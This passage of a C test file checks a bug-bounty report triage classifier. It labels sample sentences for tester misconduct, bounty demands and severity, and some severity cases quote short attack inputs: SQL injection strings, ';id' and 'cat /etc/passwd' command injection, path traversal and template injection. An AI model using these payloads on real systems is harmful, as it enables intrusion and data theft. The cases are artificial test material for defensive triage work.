	{"We kept a loop of uploads running from four cloud servers for about two hours, and around midnight the import page began returning 504 for everyone.", "dos", NULL},
	{"Our fuzzer was left running with 64 threads for three hours; judging by your status page the API was degraded in that window.", "dos", NULL},
	{"At roughly 900 requests per second the dashboard stopped loading for other users, and when we stopped the script it recovered within minutes.", "dos", NULL},
	{"Sorry about Tuesday's outage on the EU cluster, I am fairly sure that was me: my scanner ran with 200 threads for 40 minutes.", "dos", NULL},
	{"An attacker could send 600 requests per minute from several servers and keep the API busy.", NULL, NULL},
	{"If someone sends 1000 requests per second from many hosts the service would start returning 503.", NULL, NULL},
	{"We did not run anything with more than 5 threads, and your status page showed no incident.", NULL, NULL},
	{"The endpoint accepts 100 requests per minute per API key and then returns 429.", NULL, NULL},
	{"The server started returning 502 after the deploy on Monday.", NULL, NULL},
	{"I believe that was us who reported it first.", NULL, NULL},
	{"The rate limit is 10 requests per second per IP, which is too high for an OTP.", NULL, NULL},
	{"I fed a list of 5,000 leaked passwords into Burp and let it run against my own login.", "brute_force", NULL},
	{"We loaded rockyou.txt into Intruder and started the attack on the admin login.", "brute_force", NULL},
	{"The script cycled through roughly 90,000 PINs overnight and stopped at the right one.", "brute_force", NULL},
	{"Around 12,000 OTP codes were submitted before the correct one was accepted.", "brute_force", NULL},
	{"A small Python loop was run against the PIN form about four thousand times.", "brute_force", NULL},
	{"Someone with a good wordlist could eventually hit the right code.", NULL, NULL},
	{"I did not load any password list; I only confirmed that the sixth wrong attempt is still accepted.", NULL, NULL},
	{"Roughly 10,000 passwords can be tried per hour since nothing throttles the form.", NULL, NULL},
	{"The correct password was accepted on the second try.", NULL, NULL},
	{"I found the valid token in the response body.", NULL, NULL},
	{"The script tries about 10,000 codes per hour, so the 6-digit code falls in a few days.", NULL, NULL},
	{"To prove it, I looped the invite call to about 400 addresses from an old mailing list.", "spam", NULL},
	{"We pushed the broadcast to roughly two thousand voters from a purchased file.", "spam", NULL},
	{"I resubmitted the signup form a few hundred times with made-up e-mail addresses, each of which got a welcome mail.", "spam", NULL},
	{"A bot could resubmit the contact form thousands of times with random addresses.", NULL, NULL},
	{"I sent one message to a made-up address to see whether it bounces.", NULL, NULL},
	{"I replayed the request 200 times to check the rate limit.", NULL, NULL},
	{"I entered random phone numbers in the test field and all of them were accepted.", NULL, NULL},
	{"Sorry to anyone who received duplicate emails from my test.", NULL, NULL},
	{"We sent 3 invites to our own addresses to check the template.", NULL, NULL},
	{"Over the rogue access point I captured the session cookies of three of your agents and used one to open their inbox.", "others_data", NULL},
	{"We then used the stolen token to look at the owner's billing page.", "others_data", NULL},
	{"After the takeover I could browse roughly 8,000 donor records with home addresses.", "others_data", NULL},
	{"To be thorough we exported a few thousand customer rows from the report endpoint.", "others_data", NULL},
	{"I only grabbed a small sample of user records to prove the injection works.", "others_data", NULL},
	{"An attacker who steals the session cookies of your agents could open their inbox.", NULL, NULL},
	{"With the token anyone could see the 8,000 donor records of a campaign.", NULL, NULL},
	{"I did not export a few thousand rows, I stopped at the first record.", NULL, NULL},
	{"I captured the session cookie of my own second account to test the replay.", NULL, NULL},
	{"I got the session token of the admin from the response.", NULL, NULL},
	{"I used it to open their invitation link in a private window.", NULL, NULL},
	{"I did not use the stolen cookie to open their account.", NULL, NULL},
	{"I logged in to my account and opened the settings.", NULL, NULL},
	{"We logged into our test account on the other browser.", NULL, NULL},
	{"I logged in on the other browser and the old session still worked.", NULL, NULL},
	{"During the test two other tenants' lists were overwritten with my payload.", "data_destruction", NULL},
	{"Unfortunately roughly 3,500 recordings from the shared bucket were deleted when my cleanup script ran.", "data_destruction", NULL},
	{"After the request finished about two thousand contacts in our live workspace were gone.", "data_destruction", NULL},
	{"The query reported 5120 rows updated in the production table.", "data_destruction", NULL},
	{"Other tenants' lists could be overwritten with any payload.", NULL, NULL},
	{"Two other customers' invoices could be changed by anyone.", NULL, NULL},
	{"If the victim opens the page, all 5,000 contacts would be deleted.", NULL, NULL},
	{"Please restore my access to the dashboard after you fix this.", NULL, NULL},
	{"Is there a way to recover from this?", NULL, NULL},
	{"Oops, I deleted the wrong draft of this mail, please ignore the previous one.", NULL, NULL},
	{"I deleted the campaign I had created for the test.", NULL, NULL},
	{"We ran the PoC on our nonprofit's account, since we have no sandbox.", "non_test_account", NULL},
	{"We have no sandbox, so we created a free trial account for this.", NULL, NULL},
	{"We don't have a test account, could you provide one?", NULL, NULL},
	{"The account (the real one, not the demo) shows the banner.", NULL, NULL},
	{"At the gate I told the security guard I was from the cleaning company and he let me in.", "social_engineering", NULL},
	{"I gave your helpdesk a made-up story about a lost phone and they removed the 2FA.", "social_engineering", NULL},
	{"We used a pretext about an overdue invoice to get the finance team to change the bank details.", "social_engineering", NULL},
	{"I told your support agent that I had found a security bug.", NULL, NULL},
	{"An attacker could tell the receptionist they are there for an interview.", NULL, NULL},
	{"I told the agent that I was locked out of my own account, which is true.", NULL, NULL},
	{"The phishing kit uses a fake story about a parcel.", NULL, NULL},
	{"Yesterday I put the full exploit up on GitHub and linked it on Reddit.", "public_disclosure", NULL},
	{"We dropped a short thread on X about it this morning.", "public_disclosure", NULL},
	{"I shared the details with a few friends in our hacker community so they can learn.", "public_disclosure", NULL},
	{"Please don't post this on X until we have a fix.", NULL, NULL},
	{"I will not share it with my followers until you fix it.", NULL, NULL},
	{"I wrote a blog post on medium about CSP last year.", NULL, NULL},
	{"I found this while reading a thread on Reddit.", NULL, NULL},
	{"I put the PoC on my server at https://poc.example/x.html.", NULL, NULL},
	{"I mentioned it to my team and we decided to report it.", NULL, NULL},
	{"The video has 200 views on our internal drive.", NULL, NULL},
	/*
	 * Deeds as steps of the reproduction, the subject left out ("2. Sent
	 * 50,000 requests"), counts in words, the present perfect; and the
	 * imperatives, small counts and warnings beside them.
	 */
	{"Steps:\n1. Logged in as agent.\n2. Sent 50,000 requests to /api/export with Turbo Intruder.\n3. The API went down.", "dos", NULL},
	{"What happened:\n- tried all 10000 reset codes with a script\n- the last one worked", "brute_force", NULL},
	{"3. Downloaded the invoices of another customer by changing the id.", "others_data", NULL},
	{"2. Deleted the contact list of a different workspace with the DELETE call.", "data_destruction", NULL},
	{"1. Send 50,000 requests to /api/export.\n2. Watch the API go down.", NULL, NULL},
	{"2. Try all 10000 codes; the form never locks.", NULL, NULL},
	{"2. Open the invoices of another customer by changing the id.", NULL, NULL},
	{"2. Ran the scan with 10 threads.", NULL, NULL},
	{"- sent 5 requests to check the limit", NULL, NULL},
	{"3. Logged out and back in.", NULL, NULL},
	{"We have pulled roughly 2,000 invoices belonging to other tenants.", "others_data", NULL},
	{"We've taken the reporting API down twice this week with our load tests.", "dos", NULL},
	{"I took the PoC page down after testing.", NULL, NULL},
	{"I took the old screenshot down from my server.", NULL, NULL},
	{"I sent about two thousand password reset mails to addresses from a breach list.", "spam", NULL},
	{"We fired a couple of million requests at the search endpoint.", "dos", NULL},
	{"I guessed several hundred PINs before the form finally accepted one.", "brute_force", NULL},
	{"It took about 40 minutes, but after we tried a few thousand passwords we hit the correct one.", "brute_force", NULL},
	{"Just to be sure, I pulled a handful of customer profiles through the API.", "others_data", NULL},
	{"Please do not send thousands of requests to production.", NULL, NULL},
	{"I tried the reset link again after an hour and it still worked.", NULL, NULL},
	{"I pulled the latest version of the app and tested again.", NULL, NULL},
	{"A handful of users reported slowness.", NULL, NULL},
	{"I shared the details with your security team over email.", NULL, NULL},
	{"I shared it with my friend who is a developer.", NULL, NULL},
	/*
	 * Everyday words from mail nobody tuned on: a load generator that "fell
	 * over", an apology for the outage, every PIN "went through", the OTP
	 * that "fell after 6,000 guesses", an inbox flooded, a phone book
	 * texted, non-native present tense, the passive of a past deed, a
	 * volume of data, a laptop in a floor port, tailgating, the employer's
	 * account, a talk given; and the near-misses of each.
	 */
	{"I pointed a load generator at the booking API and it fell over after about five minutes.", "dos", NULL},
	{"My apologies for the outage this morning - my script got stuck in a loop against your upload endpoint.", "dos", NULL},
	{"The upload endpoint became unusable for roughly half an hour while our benchmark was running.", "dos", NULL},
	{"To demonstrate the impact we ran the zip bomb upload in a loop and the worker pool was exhausted for twenty minutes.", "dos", NULL},
	{"I hit the search endpoint with 300 parallel requests and every page of the app went to 503 for a while.", "dos", NULL},
	{"Sending about 5,000 large payloads per minute from my VPS made the API return 503 to everyone.", "dos", NULL},
	{"Our k6 run against prod at 2,000 VUs caused the 504s you saw on Monday.", "dos", NULL},
	{"The outage on the 14th (about 20 minutes) was us, our load test was pointed at production by mistake.", "dos", NULL},
	{"The parser goes into an infinite loop on nested brackets and the worker became unresponsive for a minute.", NULL, NULL},
	{"If the endpoint is called in a loop, the app would fall over quickly.", NULL, NULL},
	{"Sorry for the delay in replying, I was travelling.", NULL, NULL},
	{"While my scan was running I noticed the X-Powered-By header.", NULL, NULL},
	{"The login page fell over once when I pasted a 2 MB string, then recovered.", NULL, NULL},
	{"The dashboard became unusable for the victim after the payload was stored.", NULL, NULL},
	{"We flooded our own staging copy with requests, never production.", NULL, NULL},
	{"Our load test against staging went fine, production was never touched.", NULL, NULL},
	{"The bug caused the 500 errors you see in the logs.", NULL, NULL},
	{"The first reporter was me.", NULL, NULL},
	{"With a simple for-loop I went through every 4-digit PIN on the kiosk login.", "brute_force", NULL},
	{"The OTP fell after roughly 6,000 guesses from my script.", "brute_force", NULL},
	{"I automated the login with a list of 20,000 common passwords.", "brute_force", NULL},
	{"I checked the leaked credentials from the Collection #1 dump against your login and several still work.", "brute_force", NULL},
	{"i have cracked the password of admin@ using hydra and rockyou", "brute_force", NULL},
	{"The 4-digit PIN was brute-forced in 11 minutes with a simple bash loop.", "brute_force", NULL},
	{"I attempted every combination from 0000 to 9999 against the reset form.", "brute_force", NULL},
	{"An attacker could go through every 4-digit PIN in minutes.", NULL, NULL},
	{"I went through every page of the settings menu and found no CSRF token.", NULL, NULL},
	{"The OTP could be cracked after about 5,000 guesses on average.", NULL, NULL},
	{"With a list of 10,000 passwords an attacker would eventually get in.", NULL, NULL},
	{"I checked the leaked credentials I found on GitHub: they belong to a test account and do not work against your login.", NULL, NULL},
	{"The password is hashed with bcrypt, so cracking it with hashcat would take years.", NULL, NULL},
	{"I would never brute-force a customer's password.", NULL, NULL},
	{"The PIN can be brute-forced in 11 minutes with a simple loop.", NULL, NULL},
	{"We use hydra in our internal trainings, but not against your site.", NULL, NULL},
	{"We blasted the share endpoint with a script and each call mailed someone outside our company.", "spam", NULL},
	{"I sent the phishing-style test SMS to everyone in my phone book, around 250 people.", "spam", NULL},
	{"We flooded the victim's inbox with 3000 password reset emails.", "spam", NULL},
	{"i send sms to 5000 number from your platform for testing", "spam", NULL},
	{"A few hundred test invitations went out to real addresses from my script, sorry.", "spam", NULL},
	{"I used your API to text 800 random UK numbers the message \"your parcel is waiting\".", "spam", NULL},
	{"I sent the report to everyone in my team for review.", NULL, NULL},
	{"Each request also mailed a copy to my own inbox.", NULL, NULL},
	{"An attacker can send 5000 SMS to random numbers from a trial account.", NULL, NULL},
	{"If abused, thousands of emails were sent from your domain by spammers last year.", NULL, NULL},
	{"Your platform lets anyone text 800 numbers a minute without verification.", NULL, NULL},
	{"I did not flood anyone's inbox; I only sent 2 mails to myself.", NULL, NULL},
	{"I ended up with the home addresses of 312 donors in my Burp history.", "others_data", NULL},
	{"I peeked into a few of the other agencies' campaigns.", "others_data", NULL},
	{"I read through the chat transcripts of several of your customers.", "others_data", NULL},
	{"Using the IDOR I looked up the profile of a random user and saw his phone number and address.", "others_data", NULL},
	{"i have download all the invoice of the other company", "others_data", NULL},
	{"So far I have downloaded 2.3 GB of customer recordings from the bucket.", "others_data", NULL},
	{"I saved the API response with 15,000 users (names, emails, phone numbers) to a file.", "others_data", NULL},
	{"I noted the names of 3 test users I had created.", NULL, NULL},
	{"I looked into the other possible causes before writing this.", NULL, NULL},
	{"I read the documentation of several of your competitors.", NULL, NULL},
	{"The app lets users download 2 GB of their own recordings at once.", NULL, NULL},
	{"I saved the response of my own profile to a file.", NULL, NULL},
	{"The page shows the invoices of the other company only after you switch workspace.", NULL, NULL},
	{"My DELETE loop removed around 900 contacts from a workspace that wasn't mine.", "data_destruction", NULL},
	{"Running the PoC wiped the notes of every agent in team 51.", "data_destruction", NULL},
	{"I purged the queue of another tenant, sorry.", "data_destruction", NULL},
	{"My test request changed the status of every contact in workspace 88 to \"do not call\".", "data_destruction", NULL},
	{"All recordings of account 5120 were deleted by my PoC, I can't undo it.", "data_destruction", NULL},
	{"My test deleted the note I had just created.", NULL, NULL},
	{"Running the PoC deleted my own test note.", NULL, NULL},
	{"All my test notes were deleted by my PoC, as expected.", NULL, NULL},
	{"My request changed the name of my own contact.", NULL, NULL},
	{"I rang your helpdesk as \"Maria from Finance\" and got a password reset link sent to my address.", "social_engineering", NULL},
	{"I called support and said I lost access to the owner's email, they changed it to mine.", "social_engineering", NULL},
	{"I called the office as I could not find an email address.", NULL, NULL},
	{"While visiting your office I plugged my laptop into a floor port in the meeting room.", "physical", NULL},
	{"I followed a staff member through the secure door at your Pune office.", "physical", NULL},
	{"I was on site at your Berlin office for a job interview and photographed the whiteboard with passwords.", "physical", NULL},
	{"I plugged the payload into the search box.", NULL, NULL},
	{"I connected over ethernet to my home router to capture the traffic.", NULL, NULL},
	{"I followed the steps in your documentation to set up the webhook.", NULL, NULL},
	{"I was on site at a customer event when I noticed the app leaks the token.", NULL, NULL},
	{"I took a photo of the error message on my phone.", NULL, NULL},
	{"The account I used belongs to my employer, we are a paying customer.", "non_test_account", NULL},
	{"The account I used is a free trial I created for this test.", NULL, NULL},
	{"We are a small team of researchers from Brazil.", NULL, NULL},
	{"The PoC is on my public GitHub repo now.", "public_disclosure", NULL},
	{"I gave a talk about this bug at our local meetup last week.", "public_disclosure", NULL},
	{"Full details are in my blog post from yesterday: https://blog.example/callhub", "public_disclosure", NULL},
	{"The exploit has been on my GitHub since last month.", "public_disclosure", NULL},
	{"I gave a talk about XSS in general at a meetup last year.", NULL, NULL},
	{"The PoC is hosted on my private server.", NULL, NULL},
	{"The report is on its way to you.", NULL, NULL},
	{"The details are in my report below.", NULL, NULL},
	{"The PoC is on my server, the link is in the attachment.", NULL, NULL},
	{"I cannot restore the old layout after saving, the button is greyed out.", NULL, NULL},
	{"My old notes were deleted by my cleanup script, which is expected.", NULL, NULL},
	/*
	 * Yet more: heavy traffic generated with 503 "for about 15 minutes",
	 * thousands of login attempts "done", a password spray "run", accounts
	 * registered with other people's addresses, every organisation's log
	 * exported, a CSV with thousands of users, an SQL UPDATE run against
	 * every row, a department impersonated, USB sticks left at the door, the
	 * account of my church, the PoC shared with journalists; and the
	 * near-misses (small counts, own test data, warnings, capabilities).
	 */
	{"Hello, during testing our automated scanner generated heavy traffic and your API returned 503 for about 15 minutes, we apologise.", "dos", NULL},
	{"I ran slowloris from my laptop against www for ten minutes and the site stopped responding to everyone in my office.", "dos", NULL},
	{"Repro: I fired 40k uploads of a 50 MB file over an hour; the processing queue backed up and imports stalled for every customer.", "dos", NULL},
	{"We accidentally DDoS'd your login page with our test harness, sorry about that.", "dos", NULL},
	{"I bruteforced the 6 digit OTP with turbo intruder, took 7 minutes.", "brute_force", NULL},
	{"I did 20,000 login attempts in 10 minutes and was never blocked.", "brute_force", NULL},
	{"We ran a password spray (one password, 3,000 usernames) against the SSO.", "brute_force", NULL},
	{"I registered 300 accounts with other people's email addresses to show they all receive the welcome mail.", "spam", NULL},
	{"Your SMS form let me send 1,200 texts to numbers from a public list.", "spam", NULL},
	{"I spammed the feedback form 500 times.", "spam", NULL},
	{"I downloaded the contact lists of three of your customers via the export IDOR.", "others_data", NULL},
	{"I exported every organisation's call log through the admin endpoint.", "others_data", NULL},
	{"I could access 2,000+ recordings of other organisations and listened to a few.", "others_data", NULL},
	{"Using the leaked key I listed all S3 buckets and downloaded customer backups.", "others_data", NULL},
	{"I have a CSV with all 9,800 users of the platform, emails included.", "others_data", NULL},
	{"I deleted the test campaigns of 12 random workspaces via the IDOR.", "data_destruction", NULL},
	{"With the SQL injection I ran an UPDATE that reset every user's password hash.", "data_destruction", NULL},
	{"My script accidentally cleared the address books of all agents in the org.", "data_destruction", NULL},
	{"I sent your CFO an email from a lookalike domain asking for an urgent wire transfer.", "social_engineering", NULL},
	{"Over the phone, I convinced the agent that I was the account owner by giving the billing address.", "social_engineering", NULL},
	{"I impersonated your IT department in a chat with one of your agents and got her password.", "social_engineering", NULL},
	{"I accessed your office network by plugging into an ethernet port in the reception area.", "physical", NULL},
	{"I dropped USB sticks with a payload near your entrance.", "physical", NULL},
	{"I tested on the account of my church, which uses CallHub for its newsletters.", "non_test_account", NULL},
	{"Note: this was done on our live production account.", "non_test_account", NULL},
	{"I have posted the details on HackerOne Hacktivity.", "public_disclosure", NULL},
	{"A writeup will be published on my blog next week regardless.", "public_disclosure", NULL},
	{"I've already shared the PoC with a couple of journalists.", "public_disclosure", NULL},
	{"Our monitoring generated high load alerts yesterday, unrelated to this report.", NULL, NULL},
	{"The API returned 503 for a few seconds after the deploy.", NULL, NULL},
	{"I did 3 login attempts and then got locked out.", NULL, NULL},
	{"I registered 10 accounts with fake addresses for testing.", NULL, NULL},
	{"Every organisation's data can be exported by anyone with an agent role.", NULL, NULL},
	{"I have a CSV with 120 test contacts I imported myself.", NULL, NULL},
	{"I ran an UPDATE on my own profile row.", NULL, NULL},
	{"Attackers could impersonate your IT department in a chat.", NULL, NULL},
	{"I impersonated the admin by changing the role parameter.", NULL, NULL},
	{"Please don't share this with journalists.", NULL, NULL},
	/*
	 * The production database entered, a crash "three times during my
	 * fuzzing", a visit to the headquarters, a cloned login page sent to
	 * staff, "my writeup:" with a public address; and their near-misses.
	 */
	{"I accessed the production database and ran a few read-only queries.", "others_data", NULL},
	{"The data I downloaded includes names and phone numbers of real voters.", "others_data", NULL},
	{"I then sent a DELETE for every contact id between 1 and 5000.", "data_destruction", NULL},
	{"We hit the endpoint with 10k req/s from a few boxes and it went to 503 for everybody.", "dos", NULL},
	{"The server crashed three times during my fuzzing session.", "dos", NULL},
	{"During a visit to your HQ I connected my laptop to the internal wifi.", "physical", NULL},
	{"I emailed two of your engineers a link to a cloned SSO login page and one of them entered his password.", "social_engineering", NULL},
	{"Here is my writeup: https://medium.com/@someone/callhub-idor-123", "public_disclosure", NULL},
	{"An attacker with database access could read everything.", NULL, NULL},
	{"The data I downloaded is my own export, nothing else.", NULL, NULL},
	{"Send a DELETE for your own contact id to reproduce.", NULL, NULL},
	{"The server crashed once when I uploaded the file.", NULL, NULL},
	{"Phishing emails to your engineers would be convincing with this bug.", NULL, NULL},
	{"I will share my writeup once you approve disclosure.", NULL, NULL},
    };
    struct report r;
    struct triage t;
    size_t  i;

    (void) state;
    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
	judge(&t, &r, "Report", cases[i].text, NULL);
	if (cases[i].conduct != NULL ? !has(&t.conduct, cases[i].conduct) : t.conduct.n != 0)
	    fail_msg("case %zu: conduct %s (%zu found)", i,
		     cases[i].conduct ? cases[i].conduct : "none", t.conduct.n);
	if (has(&t.flags, "bounty_demand") != (cases[i].flag != NULL))
	    fail_msg("case %zu: bounty_demand", i);
	triage_free(&t);
	report_destroy(&r);
    }
}

static void test_bounty_demand(void **state)
{
    static const struct {
	const char *text;
	int     demand;
    }       cases[] = {
	{"Stored XSS in notes. Is this eligible for a bounty?", 1},
	{"Stored XSS in notes. How much will you pay for this?", 1},
	{"Stored XSS in notes. I expect a reward for this finding.", 1},
	{"Stored XSS in notes. My PayPal address is below.", 1},
	{"Stored XSS in notes. I do not want any reward, just a fix.", 0},
	{"Stored XSS in notes. I read about your bug bounty program.", 0},
	/* Asked in other words; and a reward that is a feature, a bounty page read. */
	{"Stored XSS in notes. Please let me know about the reward for this finding.", 1},
	{"Stored XSS in notes. Hope to receive a good bounty for this critical issue.", 1},
	{"Stored XSS in notes. I am expecting some appreciation in monetary form.", 1},
	{"Stored XSS in notes. What do you pay for a P1?", 1},
	{"Stored XSS in notes. Any bug bounty for this?", 1},
	{"Stored XSS in notes. Kindly reward me as per your policy.", 1},
	{"Stored XSS in notes. I will share the PoC once the payment terms are agreed.", 1},
	{"Stored XSS in notes. My usual fee for such a report is 500 USD.", 1},
	{"Stored XSS in notes. Please transfer the reward to my bank account, details below.", 1},
	{"Stored XSS in notes. Do you have a bounty program? If yes, how much for this?", 1},
	{"Stored XSS in notes. Can I get some swag or money for this?", 1},
	{"Stored XSS in notes. Is this bug eligible for a reward?", 1},
	{"Stored XSS in notes. I'm not interested in a bounty, I just want this fixed.", 0},
	{"Stored XSS in notes. I understand you don't pay bounties.", 0},
	{"Stored XSS in notes. Thanks for having a hall of fame.", 0},
	{"Stored XSS in notes. Your bug bounty page says XSS is in scope.", 0},
	{"Stored XSS in notes. The reward points feature can be abused to get unlimited points.", 0},
	{"Stored XSS in notes. The payment page leaks the card's last four digits.", 0},
    };
    struct report r;
    struct triage t;
    size_t  i;

    (void) state;
    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
	judge(&t, &r, "XSS", cases[i].text, NULL);
	if (has(&t.flags, "bounty_demand") != cases[i].demand)
	    fail_msg("case %zu: bounty_demand %d", i, !cases[i].demand);
	if (cases[i].demand)
	    assert_non_null(ev_find(&t, EV_FLAG, "bounty_demand"));
	triage_free(&t);
	report_destroy(&r);
    }
}

static void test_severity_rule(void **state)
{
    static const struct {
	const char *text;
	enum triage_severity sev;
    }       cases[] = {
	{"Reflected XSS in the search page.", SEV_MEDIUM},
	{"Stored XSS in the notes, every agent runs it.", SEV_HIGH},
	{"Self-XSS in my own profile name: XSS.", SEV_LOW},
	{"SQL injection in the reports filter.", SEV_CRITICAL},
	{"IDOR, but it requires admin privileges on the account.", SEV_MEDIUM},
	{"CSRF on the email change form leads to account takeover.", SEV_HIGH},
	{"The X-Frame-Options header is missing.", SEV_NONE},
	/* How a careful triager qualifies without a vector (own wording). */
	{"IDOR: changing the id lets me read other customers' invoices, any account.", SEV_HIGH},
	{"IDOR that gives an account takeover of every user, unauthenticated.", SEV_HIGH},
	{"Session fixation on the login form of the portal.", SEV_MEDIUM},
	{"After logout the session cookie is still valid for a week: broken authentication.", SEV_LOW},
	{"Logout CSRF: a hidden image logs the victim out.", SEV_LOW},
	{"Stored XSS in the bio, but it only fires on my own profile page.", SEV_MEDIUM},
	{"Reflected XSS, it only runs in your own browser session.", SEV_LOW},
	{"The API still offers TLS 1.0 with 3DES, so MITM is easier (SWEET32).", SEV_LOW},
	{"MITM: the app sends the bearer token over plain HTTP.", SEV_HIGH},
	{"Blind SSRF in the avatar URL fetcher, only a port scan so far.", SEV_MEDIUM},
	{"SSRF in the webhook tester returns IAM role temporary credentials.", SEV_CRITICAL},
	{"Race condition in the coupon redemption.", SEV_MEDIUM},
	{"Subdomain takeover: a dangling CNAME to an unclaimed bucket.", SEV_HIGH},
	{"CSV injection in the contacts export.", SEV_LOW},
	{"Hello, can you call me?", SEV_UNSET},
	/* A lower the reporter denies does not count. */
	{"Stored XSS in the ticket subject. Before you call it self-XSS: it is not a self-XSS, it runs for the supervisor.", SEV_HIGH},
	{"Stored XSS, but only a self-XSS in my own notes.", SEV_MEDIUM},
	/* Nothing to go on: suspected, details held back, a question. */
	{"I believe there is SQL injection possible on the login form, maybe the firewall is blocking my quotes. Kindly check on your end.", SEV_UNSET},
	{"I found a reflected XSS in your web app. Which e-mail should I use to send you the details?", SEV_UNSET},
	{"The chat box shows the visitor's own e-mail in the page source (information disclosure). Is this an issue for you?", SEV_UNSET},
	{"SQL injection in the reports filter. Is this an issue for you? Steps:\n1. open /reports\n2. set the filter to 1' OR '1'='1", SEV_CRITICAL},
	/* Not a vulnerability: a best-practice mail setting. */
	{"Your DMARC record is published with p=none, so spoofed mail is only reported.", SEV_NONE},
	/* Limited impact. */
	{"Denial of service: after three failed logins the account is locked for 30 minutes, so anyone can lock a user out.", SEV_LOW},
	{"DoS: the signup form has no maximum length on the password, a 5 MB value keeps a worker busy.", SEV_LOW},
	{"Content spoofing on the error page: the reason parameter is shown as given, without authentication, but the HTML is escaped.", SEV_LOW},
	{"Account takeover with leaked credentials from a combo list: 2FA is not enforced (broken authentication).", SEV_LOW},
	/* Stated impact that raises. */
	{"Information disclosure: the Android app ships a payment secret key; I checked that the key is still valid with one read-only call.", SEV_CRITICAL},
	{"Information disclosure: an open bucket lists the invoices of all your customers.", SEV_CRITICAL},
	{"Information disclosure: the backup folder is listable and may contain API keys.", SEV_MEDIUM},
	{"Information disclosure: the bundle holds the chat's identity verification secret, so anyone can impersonate any user in the chat.", SEV_HIGH},
	{"CSRF on the add-user form: the user created this way has access to the contacts of the victim.", SEV_HIGH},
	{"Social engineering: your sales staff gave me the API keys of a workspace over chat.", SEV_MEDIUM},
	{"Sender ID spoofing: a trial can put any bank name as sender ID, a smishing tool.", SEV_MEDIUM},
	/* Each level in other words: code run, live and cloud keys, data of every customer (critical); takeover told as a verb, stored XSS, others' data (high); reflected XSS, limits (medium); redirects, self-only, a session kept (low); the exclusions (none); a bare question (null). */
	{"Remote code execution: the PDF export runs our shell commands, `;id` returned uid=33(www-data).", SEV_CRITICAL},
	{"Template injection in the email subject: {{7*7}} renders 49 and I could read /etc/passwd through it.", SEV_CRITICAL},
	{"SQL injection in /api/v1/reports?sort= lets anyone read the whole customers table.", SEV_CRITICAL},
	{"Information disclosure: your mobile app has a hardcoded AWS secret access key with full S3 access.", SEV_CRITICAL},
	{"Information disclosure: a public bucket holds the call recordings of all customers.", SEV_CRITICAL},
	{"Exposed .git folder on www.callhub.io, the config contains the production database password.", SEV_CRITICAL},
	{"Information disclosure: a debug endpoint prints the live Stripe secret key sk_live_ of the platform.", SEV_CRITICAL},
	{"IDOR: changing the contact id lets me read the contacts of other organisations.", SEV_HIGH},
	{"Account takeover: the password reset token is returned in the response, so any account can be taken over.", SEV_HIGH},
	{"Stored XSS in the campaign name runs for every agent who opens the dashboard.", SEV_HIGH},
	{"SSRF in the webhook tester reaches internal services.", SEV_HIGH},
	{"XXE in the contacts XML import reads local files.", SEV_HIGH},
	{"Path traversal in the attachment download: ../../etc/passwd is returned.", SEV_HIGH},
	{"Broken access control: an agent can promote himself to admin.", SEV_HIGH},
	{"Reflected XSS in the q parameter of the search page.", SEV_MEDIUM},
	{"CSRF on the notification settings form.", SEV_MEDIUM},
	{"Information disclosure: the API returns internal server version numbers.", SEV_MEDIUM},
	{"Mixed content: the pricing page loads a script over http.", SEV_LOW},
	{"Open redirect on /logout?next=https://evil.example.", SEV_LOW},
	{"Self-XSS in my own display name, only I can see it.", SEV_LOW},
	{"Content spoofing: the error page shows any text from the msg parameter.", SEV_LOW},
	{"Missing X-Frame-Options header on the login page, so clickjacking.", SEV_NONE},
	{"A 500 error with a Django stack trace when the id is a string.", SEV_NONE},
	{"Missing Content-Security-Policy and HSTS headers.", SEV_NONE},
	{"Hi, I found a vulnerability in your site. How do I report it?", SEV_UNSET},
	{"Hello, is your security team reachable? I have something to share.", SEV_UNSET},
	{"The login has no rate limit, so passwords can be guessed (broken authentication).", SEV_MEDIUM},
	{"Username enumeration on the forgot-password form: the message differs for unknown e-mails.", SEV_LOW},
	{"Subdomain takeover of help.callhub.io through a dangling CNAME.", SEV_HIGH},
	{"SQL injection in the login form: ' OR 1=1-- logs in as the first user, the admin.", SEV_CRITICAL},
	{"IDOR lets any user download all invoices of every customer, no authentication needed.", SEV_HIGH},
	{"Information disclosure: the JS bundle contains a Google Maps API key.", SEV_MEDIUM},
	{"Stored XSS in my own notes that only I can see.", SEV_MEDIUM},
	{"Broken authentication: after I changed my password the other browser's session was still logged in and usable.", SEV_LOW},
	{"Reflected XSS in the search box; with it an attacker steals the session cookie and takes over the account.", SEV_HIGH},
	{"Open redirect in the OAuth callback leaks the access_token to the attacker's site.", SEV_MEDIUM},
	{"Blind SSRF in the image proxy, only a DNS pingback so far.", SEV_MEDIUM},
	{"IDOR on the notes API, but it requires admin privileges in the workspace.", SEV_MEDIUM},
	{"Stored XSS in the campaign name, it is wormable across workspaces.", SEV_HIGH},
	{"Brute force: the OTP form has no rate limit (broken authentication).", SEV_MEDIUM},
	{"Information disclosure: a public .git folder exposes the source code, with the AWS secret access key of production in config.py.", SEV_CRITICAL},
	{"Race condition: the same coupon can be redeemed twice in parallel requests.", SEV_MEDIUM},
	/* More words for the same levels: command injection and a shell uploaded, every organisation's contacts, a session that does not expire, a payload pasted into one's own console, a CSRF that adds an admin, "there may be an XSS somewhere". */
	{"Command injection: the ping tool in diagnostics passes the host to sh, `127.0.0.1; cat /etc/passwd` prints the file.", SEV_CRITICAL},
	{"Unrestricted file upload: I uploaded shell.php as an avatar and it executes on the server.", SEV_CRITICAL},
	{"Blind SQL injection (time based) in the unsubscribe link, sleep(5) delays the answer.", SEV_CRITICAL},
	{"The GraphQL API lets any logged-in user query every organisation's contacts (broken access control).", SEV_HIGH},
	{"Privilege escalation: an agent can call the admin endpoint and add users.", SEV_HIGH},
	{"DOM XSS via location.hash on the help page.", SEV_MEDIUM},
	{"Stored XSS in a contact's name, it fires when an agent opens the contact.", SEV_HIGH},
	{"CSRF: there is no token on the form that adds a new admin user to the workspace, so the attacker gets admin access.", SEV_HIGH},
	{"Information disclosure: the API key of Google Analytics is in the page source.", SEV_MEDIUM},
	{"The public S3 bucket exposes the invoices of every customer.", SEV_CRITICAL},
	{"Open redirect in the login page's next parameter.", SEV_LOW},
	{"HSTS header is missing on app.callhub.io.", SEV_NONE},
	{"Verbose error: a 500 page shows the SQL query and stack trace.", SEV_NONE},
	{"Clickjacking on the settings page because X-Frame-Options is absent.", SEV_NONE},
	{"I think there may be an XSS somewhere in your site, can you check from your side?", SEV_UNSET},
	{"Session does not expire after logout (broken authentication).", SEV_LOW},
